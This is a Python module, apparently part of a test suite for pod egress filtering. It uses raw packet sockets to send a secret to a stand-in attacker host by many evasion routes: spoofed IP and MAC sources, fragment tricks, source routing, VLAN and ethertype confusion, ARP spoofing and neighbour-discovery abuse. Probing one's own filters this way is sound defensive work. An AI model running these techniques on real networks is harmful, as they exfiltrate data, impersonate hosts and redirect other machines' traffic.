"""Packet sockets: frames straight to the interface, past the IP layer and every program on the pod's cgroup."""

import os
import socket
import struct

from attack import *

RAW = ["net_raw"]


@way(caps=RAW)
def udp_frame():
    """A UDP packet in a frame, over IPv4 and IPv6."""
    attempt(lambda: send_frame(ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))),
            lambda: send_frame(ip6(POD6, EVIL6, 17, udp_segment(POD6, EVIL6, 5000, 123, SECRET))))


@way(caps=RAW)
def cooked():
    """The same by a socket that makes the Ethernet header itself (SOCK_DGRAM)."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
    packet = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
    s.sendto(packet, ("eth0", 0x0800, 0, 0, gateway_mac()))


@way(caps=RAW)
def past_the_queue():
    """The same past the queueing discipline (PACKET_QDISC_BYPASS)."""
    packet = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
    frame = gateway_mac() + mac() + b"\x08\0" + packet
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.setsockopt(263, 20, 1)
    s.bind(("eth0", 0))
    s.send(frame)


@way(caps=RAW)
def tcp_frames():
    """A whole TCP conversation in frames: SYN, data, and segments that look like replies."""
    for flags in (0x02, 0x18, 0x12, 0x04, 0x14, 0x10):
        attempt(lambda: send_frame(ip4(POD4, EVIL4, 6, tcp_segment(POD4, EVIL4, 5000, 80, flags, SECRET))),
                lambda: send_frame(ip6(POD6, EVIL6, 6, tcp_segment(POD6, EVIL6, 5000, 80, flags, SECRET))))


@way(caps=RAW)
def forbidden_port():
    """Frames to a forbidden port of a destination with an allowed one."""
    attempt(lambda: send_frame(ip4(POD4, WEB4, 17, udp_segment(POD4, WEB4, 80, 8000, SECRET))),
            lambda: send_frame(ip4(POD4, WEB4, 6, tcp_segment(POD4, WEB4, 123, 443, 2, SECRET))))


@way(caps=RAW)
def icmp_frames():
    """Echo requests and replies, and errors, in frames."""
    for kind in (8, 0, 3, 11):
        attempt(lambda: send_frame(ip4(POD4, EVIL4, 1, echo_request(POD4, EVIL4, SECRET, kind))))
    attempt(lambda: send_frame(ip6(POD6, EVIL6, 58, echo_request(POD6, EVIL6, SECRET))))


@way(caps=RAW)
def spoofed_source():
    """Frames to where the pod may, in somebody else's name."""
    attempt(lambda: send_frame(ip4(FOREIGN4, ALLOWED4, 17, udp_segment(FOREIGN4, ALLOWED4, 5000, 123, SECRET))),
            lambda: send_frame(ip6(FOREIGN6, ALLOWED6, 17, udp_segment(FOREIGN6, ALLOWED6, 5000, 123, SECRET))))


@way(caps=RAW)
def spoofed_hardware():
    """Frames with somebody else's hardware address."""
    send_frame(ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET)), source=b"\2\0\0\0\0\x77")


@way(caps=RAW)
def source_route():
    """A source route in a frame to where the pod may."""
    data = udp_segment(POD4, ALLOWED4, 5000, 123, SECRET)
    attempt(lambda: send_frame(ip4(POD4, ALLOWED4, 17, data, bytes([131, 7, 4]) + packed(EVIL4))))


@way(caps=RAW)
def later_fragments():
    """Later fragments in frames, to where the pod may not and to where it may not on every port."""
    attempt(lambda: send_frame(ip4(POD4, EVIL4, 17, SECRET, fragment=0x0010)),
            lambda: send_frame(ip4(POD4, WEB4, 17, SECRET, fragment=0x2010)),
            lambda: send_frame(ip6(POD6, EVIL6, 44, struct.pack("!BBHI", 17, 0, 0x0008, 7) + SECRET)))


@way(caps=RAW)
def fragment_of_another():
    """A first fragment that may pass, and later ones of the same ID to where they may not."""
    attempt(lambda: send_frame(ip4(POD4, WEB4, 17, udp_segment(POD4, WEB4, 80, 123, b"." * 24), fragment=0x2000, ident=5)),
            lambda: send_frame(ip4(POD4, EVIL4, 17, SECRET, fragment=0x0004, ident=5)),
            lambda: send_frame(ip4(POD4, WEB4, 6, SECRET, fragment=0x0004, ident=5)))


@way(caps=RAW)
def fragment_of_another_with_options():
    """The same over IPv6, with options before the fragment header; and a piece in a piece, of which only the outer one follows a first."""
    first = udp_segment(POD6, WEB6, 80, 123, b"." * 24)
    attempt(lambda: send_frame(ip6(POD6, WEB6, 0, options(44) + piece(17, 1, 5) + first)),
            lambda: send_frame(ip6(POD6, EVIL6, 0, options(44) + piece(17, 0x20, 5) + SECRET)),
            lambda: send_frame(ip6(POD6, WEB6, 0, options(44) + piece(6, 0x20, 5) + SECRET)),
            lambda: send_frame(ip6(POD6, WEB6, 0, options(44) + piece(17, 0x20, 6) + SECRET)),
            lambda: send_frame(ip6(POD6, WEB6, 44, piece(44, 0, 5) + piece(17, 0x20, 6) + SECRET)))


def options(following):
    """A header with options for every hop: none."""
    return bytes([following, 0, 1, 4, 0, 0, 0, 0])


def piece(following, offset, ident):
    """An IPv6 fragment header; `offset` is the field with the flag."""
    return struct.pack("!BBHI", following, 0, offset, ident)


@way(caps=RAW)
def other_ethertypes():
    """Frames that are no IP: local experiments, LLDP, PPPoE, MPLS, MACsec, old length fields."""
    for ethertype in (0x88b5, 0x88cc, 0x8864, 0x8847, 0x88e5, 0x8863, 0x0101, 0x0026, 0x22f3):
        attempt(lambda: send_frame(SECRET + b"\0" * 46, ethertype=ethertype, to=b"\xff" * 6))


@way(caps=RAW)
def vlan():
    """IP in frames with one and two VLAN tags."""
    packet = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
    attempt(lambda: send_frame(packet, tag=b"\x81\0\0\5"), lambda: send_frame(packet, tag=b"\x88\xa8\0\5\x81\0\0\5"),
            lambda: send_frame(packet, tag=b"\x81\0\0\0"))


@way(caps=RAW)
def wrong_ethertype():
    """IPv4 in a frame that says IPv6 or ARP, and the other way round."""
    four = ip4(POD4, EVIL4, 17, udp_segment(POD4, EVIL4, 5000, 123, SECRET))
    six = ip6(POD6, EVIL6, 17, udp_segment(POD6, EVIL6, 5000, 123, SECRET))
    attempt(lambda: send_frame(four, ethertype=0x86dd), lambda: send_frame(six, ethertype=0x0800),
            lambda: send_frame(four, ethertype=0x0806))


def arp(sender, target=GATEWAY4, operation=1, trailer=b""):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + mac() + packed(sender) + b"\0" * 6 + packed(target) + trailer


@way(caps=RAW)
def arp_with_a_trailer():
    """ARP requests with the secret behind them."""
    send_frame(arp(POD4, trailer=SECRET), ethertype=0x0806, to=b"\xff" * 6)


@way(caps=RAW)
def arp_in_another_name():
    """ARP requests and replies that claim somebody else's address: the next packets for it would come here."""
    for operation in (1, 2):
        send_frame(arp(EVIL4, operation=operation), ethertype=0x0806, to=b"\xff" * 6)
    send_frame(arp("10.77.0.99", "10.77.0.99", 2, packed(EVIL4)), ethertype=0x0806, to=b"\xff" * 6)


@way(caps=RAW)
def to_the_link():
    """Frames to everybody on the link and to groups: broadcast, mDNS, IGMP, DHCP."""
    for destination, port in (("255.255.255.255", 67), ("224.0.0.251", 5353), ("10.77.0.255", 137)):
        packet = ip4(POD4, destination, 17, udp_segment(POD4, destination, 5000, port, SECRET), ttl=1)
        attempt(lambda: send_frame(packet, to=b"\xff" * 6))
    attempt(lambda: send_frame(ip4(POD4, "224.0.0.22", 2, SECRET, b"\x94\x04\0\0", ttl=1), to=b"\x01\0\x5e\0\0\x16"))
    attempt(lambda: send_frame(ip4("0.0.0.0", "255.255.255.255", 17,
                                   udp_segment("0.0.0.0", "255.255.255.255", 68, 67, SECRET)), to=b"\xff" * 6))


@way(caps=RAW)
def neighbour_discovery():
    """Neighbour discovery in frames, with the secret as an option."""
    for kind, destination in ((135, "ff02::1"), (136, "ff02::1"), (133, "ff02::2"), (134, "ff02::1"), (135, EVIL6), (137, EVIL6)):
        body = struct.pack("!BBHI", kind, 0, 0, 0) + packed(GATEWAY6) + b"\1\1" + SECRET[:6]
        body += b"\1\4" + (SECRET + b"\0" * 30)[:30]
        body = with_checksum(58, POD6, destination, body, 2)
        attempt(lambda: send_frame(ip6(POD6, destination, 58, body, hops=255), to=b"\x33\x33\0\0\0\1"))
